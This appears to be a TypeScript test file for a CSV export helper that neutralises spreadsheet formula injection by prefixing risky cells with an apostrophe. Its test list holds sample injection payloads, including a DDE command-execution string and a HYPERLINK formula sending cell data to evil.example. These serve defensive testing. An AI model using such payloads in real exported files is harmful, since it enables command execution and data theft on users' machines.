import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { neutralised, restored } from './neutralise-cell.ts'

const dangerous = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "'=1+1",
  "''=1+1",
]

describe('a cell of a CSV file', () => {
  it.each(dangerous)('%j is text to a spreadsheet, and comes back as it was', (text) => {
    expect(neutralised(text)).toBe(`'${text}`)
    expect(restored(neutralised(text))).toBe(text)
  })

  it.each(['Book courts', "'tis the season", '2026-11-20', '1-2', 'a=b', ''])(
    '%j is left as it is',
    (text) => {
      expect(neutralised(text)).toBe(text)
      expect(restored(text)).toBe(text)
    },
  )

  it('never begins as a formula does and comes back as it was, whatever it says', () => {
    const sign = fc.constantFrom(..."'=+-@\t\r\n ＝＋－＠\ufeffa".split(''))
    const beginnings = fc.array(sign, { maxLength: 6 }).map((signs) => signs.join(''))
    fc.assert(
      fc.property(beginnings, fc.string({ unit: 'grapheme' }), (beginning, rest) => {
        const cell = neutralised(beginning + rest)
        expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@\t\r\n＝＋－＠]/u)
        expect(restored(cell)).toBe(beginning + rest)
      }),
    )
  })
})
